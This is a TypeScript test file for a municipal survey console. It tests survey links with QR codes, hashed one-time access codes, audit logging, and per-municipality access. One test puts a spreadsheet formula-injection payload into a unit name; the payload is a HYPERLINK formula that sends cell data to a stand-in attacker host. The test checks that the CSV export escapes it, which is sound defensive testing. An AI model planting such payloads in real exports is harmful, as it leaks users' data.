import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hashCode, submitResponse } from '@gs/db';
import { testEngine } from '@gs/db/testing';
import { Submission } from '@gs/schema';
import { type Seeded, consoleHarness } from './console-testing.ts';

let h: Awaited<ReturnType<typeof consoleHarness>>;
let ids: Seeded;

beforeAll(async () => {
  h = await consoleHarness({ PUBLIC_URL: 'https://kysely.example.fi' });
});
afterAll(async () => h?.t.close());
beforeEach(async () => {
  ids = await h.reseed();
});

let keyNo = 0;
const submitWithCode = (accessCode: string) =>
  submitResponse(h.t.db, {
    roundSlug: '2026-basic',
    idempotencyKey: `codes-test-key-${String(++keyNo).padStart(6, '0')}`,
    submission: Submission.parse({
      municipality: 'lahti',
      unitId: ids.units.lahtiSchool,
      groupKey: 'grades_1_2',
      language: 'fi',
      answers: { overall_grade: 8 },
      accessCode,
    }),
  });

describe(`open links (${testEngine})`, () => {
  it('GET /api/console/rounds/:id/links gives each municipality’s link on PUBLIC_URL with an SVG QR code', async () => {
    const res = await h.call('coordinator', 'GET', `/api/console/rounds/${ids.rounds.open}/links`);
    expect(res.status).toBe(200);
    const links = await res.json();
    expect(links.map((l: { municipalityCode: string; url: string }) => [l.municipalityCode, l.url])).toEqual([
      ['081', 'https://kysely.example.fi/s/2026-basic/hartola'],
      ['111', 'https://kysely.example.fi/s/2026-basic/heinola'],
      ['398', 'https://kysely.example.fi/s/2026-basic/lahti'],
    ]);
    expect(links[0].qrSvg).toMatch(/^<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
  });

  it('a municipality contact gets their own municipality’s link only', async () => {
    const links = await (await h.call('lahti', 'GET', `/api/console/rounds/${ids.rounds.open}/links`)).json();
    expect(links.map((l: { municipalityCode: string }) => l.municipalityCode)).toEqual(['398']);
  });
});

describe(`one-time codes (${testEngine})`, () => {
  it('POST /api/console/rounds/:id/codes shows the codes once, with links and QR codes, and stores only hashes', async () => {
    const res = await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
      municipalityCode: '398',
      unitId: ids.units.lahtiSchool,
      count: 25,
    });
    expect(res.status).toBe(201);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const batch = await res.json();
    expect(batch).toMatchObject({
      batch: 1,
      municipalityCode: '398',
      unitNames: { fi: 'Kivimaan koulu' },
      codeUrl: 'https://kysely.example.fi/s/code',
      openUrl: 'https://kysely.example.fi/s/2026-basic/lahti',
    });
    expect(batch.codes).toHaveLength(25);
    expect(new Set(batch.codes.map((c: { code: string }) => c.code)).size).toBe(25);
    const first = batch.codes[0];
    expect(first.code).toMatch(/^[2-9A-Z]{4}-[2-9A-Z]{4}$/);
    expect(first.url).toBe(`https://kysely.example.fi/s/code?code=${first.code}`);
    expect(first.qrSvg).toContain('<svg');
    const stored = await h.t.db.selectFrom('access_code').select('code_hash').execute();
    expect(JSON.stringify(stored)).not.toContain(first.code);
    expect(stored.map((s) => s.code_hash)).toContain(hashCode(first.code));
    const audit = await h.t.db.selectFrom('audit_log').select('details').where('action', '=', 'codes.create').execute();
    expect(audit[0]?.details).toMatchObject({ count: 25, municipalityCode: '398' });
    expect(JSON.stringify(audit)).not.toContain(first.code);
  });

  it('the batch CSV keeps a unit name a spreadsheet would run as a formula as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
    const saved = await h.call('lahti', 'POST', '/api/console/units', {
      municipalityCode: '398',
      code: 'LA-X1',
      names: { fi: formula, sv: '+Skola', en: '@SUM(A1)' },
      kind: 'school',
      provider: 'municipal',
      activeFrom: 2020,
    });
    expect(saved.status).toBe(201);
    const unitId = (await saved.json()).id;
    const csvOf = async (lang: string) => {
      const res = await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes${lang}`, {
        municipalityCode: '398',
        unitId,
        count: 2,
      });
      expect(res.status).toBe(201);
      const batch = await res.json();
      return { csv: batch.csv as string, codes: batch.codes as { code: string; url: string }[] };
    };
    const { csv, codes } = await csvOf('');
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('\uFEFFcode;url;round;municipality_code;unit');
    expect(lines[1]).toBe(
      `${codes[0]!.code};${codes[0]!.url};2026-basic;398;"'=HYPERLINK(""https://evil.example/?""&A1;""Open"")"`,
    );
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    expect((await csvOf('?lang=sv')).csv).toContain(";398;'+Skola\r\n");
    expect((await csvOf('?lang=en')).csv).toContain(";398;'@SUM(A1)\r\n");
    expect(
      (
        await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes?lang=xx`, {
          municipalityCode: '398',
          count: 1,
        })
      ).status,
    ).toBe(400);
  });

  it('GET /api/console/rounds/:id/codes shows only used and unused counts, and a used code counts as used', async () => {
    const batch = await (
      await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
        municipalityCode: '398',
        count: 3,
      })
    ).json();
    await submitWithCode(batch.codes[0].code);
    const counts = await (await h.call('coordinator', 'GET', `/api/console/rounds/${ids.rounds.open}/codes`)).json();
    expect(counts).toEqual([
      {
        municipalityCode: '398',
        municipalityNames: { fi: 'Lahti', sv: 'Lahtis', en: 'Lahti' },
        unitId: null,
        unitNames: null,
        used: 1,
        unused: 2,
      },
    ]);
    expect(JSON.stringify(counts)).not.toContain(batch.codes[1].code);
  });

  it('a code cannot be used twice', async () => {
    const batch = await (
      await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
        municipalityCode: '398',
        count: 1,
      })
    ).json();
    const code = batch.codes[0].code;
    await submitWithCode(code);
    await expect(submitWithCode(code)).rejects.toMatchObject({ code: 'conflict', field: 'accessCode' });
    await expect(submitWithCode(code.toLowerCase().replace('-', ' '))).rejects.toMatchObject({ code: 'conflict' });
    const responses = await h.t.db
      .selectFrom('stored_response')
      .selectAll()
      .where('round_id', '=', ids.rounds.open)
      .execute();
    expect(responses).toHaveLength(16);
  });

  it('a contact sees the code counts of their own municipality only', async () => {
    await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
      municipalityCode: '398',
      count: 2,
    });
    await h.call('coordinator', 'POST', `/api/console/rounds/${ids.rounds.open}/codes`, {
      municipalityCode: '081',
      count: 2,
    });
    const counts = await (await h.call('hartola', 'GET', `/api/console/rounds/${ids.rounds.open}/codes`)).json();
    expect(counts.map((c: { municipalityCode: string }) => c.municipalityCode)).toEqual(['081']);
  });
});
